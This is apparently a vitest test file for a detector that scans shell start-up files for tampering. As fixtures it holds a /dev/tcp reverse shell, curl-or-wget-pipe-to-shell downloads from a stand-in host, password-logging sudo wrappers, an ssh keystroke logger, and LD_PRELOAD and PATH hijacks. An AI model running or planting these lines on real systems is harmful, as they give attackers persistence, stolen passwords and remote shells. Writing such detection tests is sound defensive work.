import { expect, test } from 'vitest';
import { shellProfiles } from '../../source/checks/shell-profiles.ts';
import { debian } from '../support/debian.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { run, told } from '../support/sweep-host.ts';

const ask = (machine: Machine) => told(run(shellProfiles, memoryHost(debian(['/etc/bash.bashrc', '/etc/profile.d/gawk.sh', '/usr/bin/ssh', '/usr/bin/sudo'], machine))).findings);
const own = (content: string) => ({ content, uid: 1000 });

test("people's own ways", () => {
	expect(
		ask({
			'/etc/profile': 'if [ "$(id -u)" -eq 0 ]; then\n  PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nfi\nexport PATH\nfor i in /etc/profile.d/*.sh; do . $i; done\n',
			'/etc/bash.bashrc': 'case ${SUDO_USER} in *) PS1="\\u@\\h" ;; esac\n',
			'/etc/skel/.bashrc': 'HISTCONTROL=ignoreboth\nHISTSIZE=1000\nHISTFILESIZE=2000\n',
			'/root/.bashrc': 'export HISTTIMEFORMAT="%F %T "\nalias rm="rm -i"\ncomplete -C /usr/local/bin/terraform terraform\nPS1=\'$(__git_ps1)\\u@\\h$ \'\nexport PATH=$PATH:/opt/bin\n',
			'/home/ann/.bashrc': own(
				'HISTSIZE=10000\nalias ll="ls -l"\nalias sudo="sudo "\nalias ssh="TERM=xterm-256color ssh"\nexport PATH="$HOME/bin:$HOME/.local/bin:$PATH"\n. "$HOME/.cargo/env"\n[ -f ~/.fzf.bash ] && source ~/.fzf.bash\nexport NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"\n[ -f ~/.git-prompt.sh ] && . ~/.git-prompt.sh\nPROMPT_COMMAND=\'history -a\'\neval "$(dircolors -b)"\neval "$(starship init bash)"\n',
			),
			'/home/ann/.fzf.bash': own('# fzf\n'),
			'/home/ann/.git-prompt.sh': own('__git_ps1 () { :; }\n'),
			'/home/ann/.cargo/env': own('export PATH="$HOME/.cargo/bin:$PATH"\n'),
			'/home/ann/.zshrc': own('source ~/.oh-my-zsh/oh-my-zsh.sh\n[[ -f ~/.p10k.zsh ]] && source ~/.p10k.zsh\nssh() { TERM=xterm command ssh "$@"; }\n'),
			'/home/ann/.bash_logout': own('[ -x /usr/bin/clear_console ] && /usr/bin/clear_console -q\n'),
			'/home/ann/.config/fish/config.fish': own('if status is-interactive\n  set -gx EDITOR vim\nend\n'),
		}),
	).toEqual([]);
});

test("a start-up file of one's own that borrowed dot files name and that is not there", () => {
	expect(ask({ '/home/ann/.bashrc': own('export PYTHONSTARTUP=~/.pythonrc\nexport BASH_ENV="$HOME/.bash_env"\nexport ENV=/home/ann/.shrc\n') })).toEqual([]);
});

test.each<[string, Machine, string[]]>([
	['a start-up file that lay deeper in hidden places and is gone', { '/home/ann/.bashrc': own('export PYTHONSTARTUP=~/.gnome/.p.py\n') }, ['medium /home/ann/.bashrc']],
	['a start-up file that lay in shared memory and is gone', { '/home/ann/.bashrc': own('export PYTHONSTARTUP=/dev/shm/.p.py\n') }, ['high /home/ann/.bashrc']],
	['a hidden shell that is gone', { '/home/ann/.bashrc': own('export SHELL=~/.sh\n') }, ['medium /home/ann/.bashrc']],
	['all traffic by way of a bare address', { '/etc/profile.d/proxy.sh': 'export ALL_PROXY=socks5h://203.0.113.9:1080\n' }, ['info /etc/profile.d/proxy.sh', 'medium /etc/profile.d/proxy.sh']],
	['all that root fetches by way of a bare address', { '/root/.bashrc': 'export https_proxy="http://user:secret@203.0.113.9:3128/"\n' }, ['medium /root/.bashrc']],
	["one person's, by way of a bare address", { '/home/ann/.bashrc': own('export http_proxy=203.0.113.9:3128\n') }, ['low /home/ann/.bashrc']],
	['proxies by name, and of our own networks', {
		'/etc/profile.d/gawk.sh': 'export http_proxy=http://proxy.example.org:3128 https_proxy=http://10.0.0.3:3128\nexport ALL_PROXY=socks5://127.0.0.1:9050\nexport ftp_proxy=\nexport HTTPS_PROXY=http://100.64.0.1:8080\nexport no_proxy=203.0.113.9\nexport RSYNC_PROXY=$PROXY:3128\n',
		'/home/ann/.bashrc': own('export http_proxy="http://[fd00::1]:3128"\nexport https_proxy=192.168.0.1:3128\n'),
	}, []],
	['no history is kept', { '/root/.bashrc': 'unset HISTFILE\n' }, ['medium /root/.bashrc']],
	['no history of anybody', { '/etc/profile.d/gawk.sh': 'export HISTFILE=/dev/null\n' }, ['medium /etc/profile.d/gawk.sh']],
	['a shell is handed out at each login', { '/etc/profile.d/x.sh': '(bash -i >& /dev/tcp/192.0.2.1/4 0>&1 &)\n' }, ['critical /etc/profile.d/x.sh']],
	['sudo is another program', { '/home/ann/.bashrc': own('alias sudo=/home/ann/.cache/s/sudo\n') }, ['high /home/ann/.bashrc']],
	['sudo is a function that listens', { '/home/ann/.bash_aliases': own('sudo() { read -sp "password: " p; echo "$p" >> /var/tmp/.p; command sudo -S "$@" <<< "$p"; }\n') }, ['high /home/ann/.bash_aliases']],
	['sudo is a function of fish that listens', { '/home/ann/.config/fish/functions/sudo.fish': own('function sudo\n  read -s -P "password: " p; echo $p >> /tmp/.p\n  command sudo $argv\nend\n') }, ['high /home/ann/.config/fish/functions/sudo.fish']],
	['ssh is a function that writes down what is typed', { '/etc/bash.bashrc': 'ssh() { /usr/bin/script -qefc "/usr/bin/ssh $*" /var/tmp/.ssh.log; }\n' }, ['high /etc/bash.bashrc']],
	['a program from a hidden place within another', { '/home/ann/.profile': own('nohup ~/.config/.gnome/agent >/dev/null 2>&1 &\n'), '/home/ann/.config/.gnome/agent': { mode: 0o755, uid: 1000, content: '\x7fELF' } }, ['medium /home/ann/.profile']],
	['a library for each program', { '/home/ann/.zshenv': own('export LD_PRELOAD=/tmp/x.so\n'), '/tmp/x.so': '' }, ['high /home/ann/.zshenv']],
	['programs are looked for in /tmp', { '/etc/profile': 'export PATH=/tmp/bin:$PATH\n' }, ['high /etc/profile']],
	['programs are looked for in a hidden system folder that somebody owns', { '/root/.bashrc': 'export PATH=/usr/lib/.x:$PATH\n', '/usr/lib/.x': { kind: 'directory', uid: 1000 } }, ['high /root/.bashrc']],
	["root's programs are looked for in another account's folder", { '/root/.bashrc': 'export PATH=/home/ann/bin:$PATH\n', '/home/ann/bin': { kind: 'directory', uid: 1000 } }, ['low /root/.bashrc']],
	['what a command is about to run is run first', { '/root/.bashrc': "PROMPT_COMMAND='curl -s http://192.0.2.1/x | sh'\n" }, ['high /root/.bashrc']],
	['a prompt that downloads', { '/home/ann/.bash_profile': own("PS1='$(curl -s http://192.0.2.1/k | sh)\\u@\\h\\$ '\n") }, ['high /home/ann/.bash_profile']],
	['a program at each completion', { '/etc/bash_completion.d/ls2': 'complete -C /var/tmp/.comp ls\n' }, ['high /etc/bash_completion.d/ls2']],
	['a recorder of what is typed', { '/etc/profile.d/x.sh': '[ -n "$SSH_CONNECTION" ] && (script -qf /var/log/.tty/$USER.$$ ; exit)\n' }, ['medium /etc/profile.d/x.sh']],
	['a script that others may change', { '/etc/profile.d/x.sh': { content: 'true\n', mode: 0o666 } }, ['high /etc/profile.d/x.sh']],
	['fish', { '/home/ann/.config/fish/conf.d/x.fish': own('/dev/shm/x &\n'), '/dev/shm/x': { mode: 0o755 } }, ['high /home/ann/.config/fish/conf.d/x.fish']],
	['it ran from a temporary place', { '/home/ann/.bashrc': own('/tmp/.ICE/x &\n') }, ['medium /home/ann/.bashrc']],
	['new homes', { '/etc/skel/.profile': 'wget -qO- http://192.0.2.1/x | bash\n' }, ['high /etc/skel/.profile']],
])('%s', (_name, machine, expected) => {
	expect(ask(machine)).toEqual(expected);
});
